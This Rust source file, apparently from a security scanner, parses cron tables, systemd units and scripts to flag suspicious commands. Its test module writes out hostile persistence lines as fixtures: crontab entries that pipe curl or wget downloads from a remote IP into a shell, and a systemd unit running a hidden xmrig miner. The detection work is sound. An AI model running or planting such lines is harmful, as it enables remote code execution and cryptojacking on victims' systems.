//! Command lines of scripts, cron tables and systemd units, classified with
//! [`ferret_core::command::classify`].

use crate::places::CommandFile;
use ferret_core::command::{classify, Kinds};

/// One classified line.
#[derive(Debug, Clone)]
pub(crate) struct CommandHit {
    pub line: u64,
    pub text: Vec<u8>,
    pub kinds: Kinds,
}

/// Skips `n` whitespace-separated fields and returns the rest.
fn skip_fields(l: &[u8], n: usize) -> Option<&[u8]> {
    let mut rest = l.trim_ascii_start();
    for _ in 0..n {
        let end = rest.iter().position(u8::is_ascii_whitespace)?;
        rest = rest.get(end..)?.trim_ascii_start();
    }
    Some(rest)
}

/// The command part of a cron line: after five time fields (or one `@reboot`-style word), and
/// after the user field in system tables. Environment assignments and comments give `None`.
fn cron_command(l: &[u8], system: bool) -> Option<&[u8]> {
    let t = l.trim_ascii();
    if t.is_empty() || t.starts_with(b"#") {
        return None;
    }
    let first = t.split(u8::is_ascii_whitespace).next()?;
    if first.contains(&b'=') && !first.starts_with(b"*") {
        return None;
    }
    let time_fields = if first.starts_with(b"@") { 1 } else { 5 };
    skip_fields(t, time_fields + usize::from(system)).filter(|c| !c.is_empty())
}

/// The command of a systemd `Exec*=` line, without the `-@:+!` prefixes.
fn unit_command(l: &[u8]) -> Option<&[u8]> {
    let t = l.trim_ascii();
    let (key, value) = t.split_at(memchr::memchr(b'=', t)?);
    if !key.trim_ascii().starts_with(b"Exec") {
        return None;
    }
    let v = value.get(1..)?.trim_ascii();
    let start = v
        .iter()
        .position(|c| !matches!(c, b'-' | b'@' | b':' | b'+' | b'!'))
        .unwrap_or(v.len());
    v.get(start..).filter(|c| !c.is_empty())
}

/// Classifies every command line of `text`, keeping the lines with at least one kind of
/// medium severity or more.
pub(crate) fn classify_file(text: &[u8], kind: CommandFile) -> Vec<CommandHit> {
    let mut out = Vec::new();
    for (i, raw) in text.split(|b| *b == b'\n').enumerate() {
        let l = raw.strip_suffix(b"\r").unwrap_or(raw);
        let cmd = match kind {
            CommandFile::SystemCrontab => cron_command(l, true),
            CommandFile::UserCrontab => cron_command(l, false),
            CommandFile::SystemdUnit => unit_command(l),
            CommandFile::Script => {
                let t = l.trim_ascii();
                (!t.is_empty() && !t.starts_with(b"#")).then_some(t)
            }
        };
        let Some(cmd) = cmd else { continue };
        let kinds = classify(cmd);
        if kinds
            .max_severity()
            .is_some_and(|s| s >= ferret_core::Severity::Medium)
        {
            out.push(CommandHit {
                line: i as u64 + 1,
                text: cmd.to_vec(),
                kinds,
            });
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use ferret_core::command::CommandKind;

    #[test]
    fn cron_and_units() {
        let hits = classify_file(
            b"SHELL=/bin/sh\n# m h dom mon dow user cmd\n*/5 * * * * root curl -fsSL http://203.0.113.9/ldr.sh | sh\n@reboot root /usr/bin/true\n",
            CommandFile::SystemCrontab,
        );
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].line, 3);
        assert!(hits[0].kinds.contains(CommandKind::DownloadExecute));
        let hits = classify_file(
            b"*/10 * * * * wget -q -O- http://203.0.113.9/x.sh | bash >/dev/null 2>&1\n",
            CommandFile::UserCrontab,
        );
        assert_eq!(hits.len(), 1);
        let hits = classify_file(
            b"[Service]\nExecStartPre=-/bin/true\nExecStart=/tmp/.x/xmrig -o stratum+tcp://pool.example:3333 --donate-level 1\n",
            CommandFile::SystemdUnit,
        );
        assert_eq!(hits.len(), 1);
        assert!(hits[0].kinds.contains(CommandKind::Miner));
        assert_eq!(hits[0].line, 3);
        assert!(
            classify_file(b"#!/bin/sh\necho hello\nls -l /tmp\n", CommandFile::Script).is_empty()
        );
    }
}
